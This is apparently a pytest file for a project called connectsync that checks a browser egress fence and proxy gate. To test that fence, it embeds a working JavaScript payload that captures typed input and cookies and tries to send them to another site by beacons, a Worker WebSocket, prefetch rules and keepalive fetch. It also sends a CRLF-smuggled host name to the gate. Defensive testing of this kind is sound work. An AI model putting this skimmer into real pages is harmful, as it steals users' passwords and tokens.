"""What is typed leaves for Connect alone, whatever a page began before or later."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager

import pytest
from browser_world import World, both, close_tabs, served, website
from other_site import TOKEN, other, type_token
from starlette.types import ASGIApp
from tampered_page import Tampered

from connectsync.backends.browser.fence import WayOut
from connectsync.backends.browser.session import sign_in
from connectsync.emulator.users import DEMO_EMAIL, DEMO_PASSWORD

SENDS = """
const away = new URL(document.currentScript.src).origin;
const kept = () => [localStorage.told, document.cookie, window.name].join("");
if (kept()) new Image().src = `${away}/kept?${kept()}`;
const socket = `${away.replace("http", "ws")}/worker`;
const code = `onmessage = told => new WebSocket("${socket}?" + told.data)`;
const worker = new Worker(URL.createObjectURL(new Blob([code])));
addEventListener("input", event => {
  const told = event.target.value;
  worker.postMessage(told);
  localStorage.told = document.cookie = window.name = told;
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  const urls = [`${away}/ahead?${encodeURIComponent(told)}`];
  rules.textContent = JSON.stringify({prefetch: [{urls, eagerness: "immediate"}]});
  document.head.append(rules);
  addEventListener("pagehide", () => {
    navigator.sendBeacon(`${away}/late`, told);
    fetch(`${away}/last`, {keepalive: true, method: "POST", mode: "no-cors"});
  });
});
"""
"""A script that is out to send what is typed, by all that passes no route of ours."""


def taking(away: str) -> Callable[[ASGIApp], ASGIApp]:
    """Let each page take the script from another site."""
    script = f"<head><script src={away}/static/page.js></script>"
    return lambda app: Tampered(app, lambda _, html: html.replace("<head>", script))


def test_no_worker_rule_or_later_page_sends_a_token_on(world: World) -> None:
    """The form itself needs that other site until the token is typed, and works."""

    async def act() -> None:
        async with other(SENDS) as elsewhere:
            async with served(world.store, around=taking(elsewhere.address)) as address:
                site = website(address, world.folder)
                pair = both(world.browser, site, lambda _: TOKEN, world.store)
                try:
                    await type_token(*pair)
                    # what a page kept would be found by the next one that is read
                    await pair[0].read("elm")
                finally:
                    await close_tabs(world.browser)
            assert elsewhere.looks
            assert elsewhere.heard == []

    world.runner.run(act())
    assert world.token_digest("bay")


def test_no_worker_rule_or_later_page_sends_a_password_on(world: World) -> None:
    async def act() -> None:
        async with other(SENDS) as elsewhere:
            async with served(world.store, around=taking(elsewhere.address)) as address:
                site = website(address, world.folder)
                await sign_in(site, DEMO_EMAIL, DEMO_PASSWORD)
            assert elsewhere.looks
            assert elsewhere.heard == []

    world.runner.run(act())


REFUSED = bytes([5, 5])


async def asked(gate: str, host: str) -> bytes:
    """Ask a gate for a host, as Chromium does; give what comes back."""
    port = int(gate.rpartition(":")[2])
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    name = host.encode()
    writer.write(bytes([5, 1, 0, 5, 1, 0, 3, len(name)]) + name + b"\x01\xbb")
    assert await reader.readexactly(2) == bytes([5, 0])
    answer = await reader.readexactly(10)
    said = b"" if answer[:2] == REFUSED else await reader.read(100)
    writer.close()
    return answer[:2] + said


@asynccontextmanager
async def proxy(answer: bytes) -> AsyncIterator[tuple[int, list[bytes]]]:
    """Be a proxy that leads on to one who says hello; give its port and what it got."""
    got: list[bytes] = []

    async def lead(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        got.append(await reader.read(1000))
        if got[-1][:1] == b"\x05":
            writer.write(b"\x05\x00")
            got.append(await reader.read(1000))
        writer.write(answer + b"hello")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(lead, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1], got


@pytest.mark.parametrize(
    ("scheme", "answer", "hears", "said"),
    [
        ("http", b"HTTP/1.1 200 OK\r\n\r\n", b"CONNECT connect.example:443", b"hello"),
        ("http", b"HTTP/1.1 403 No\r\n\r\n", b"CONNECT connect.example:443", None),
        ("socks5", b"\5\0\0\1\0\0\0\0\0\0", b"connect.example\x01\xbb", b"hello"),
        ("socks5", b"\5\2\0\1\0\0\0\0\0\0", b"connect.example\x01\xbb", None),
    ],
)
def test_a_token_takes_the_proxy_that_the_environment_names(
    monkeypatch: pytest.MonkeyPatch,
    scheme: str,
    answer: bytes,
    hears: bytes,
    said: bytes | None,
) -> None:
    async def act() -> None:
        async with proxy(answer) as (port, got):
            monkeypatch.setenv("https_proxy", f"{scheme}://127.0.0.1:{port}")
            gate = WayOut("https://connect.example")
            address = (await gate.start())["server"]
            gate.shut()
            told = REFUSED if said is None else bytes([5, 0]) + said
            assert await asked(address, "connect.example") == told
            assert hears in b"".join(got)
            heard = len(got)
            for host in ("evil.example", "CONNECT.example.", "127.0.0.1", "a b\r\n"):
                assert await asked(address, host) == REFUSED
            assert len(got) == heard
            gate.close()

    asyncio.run(act())
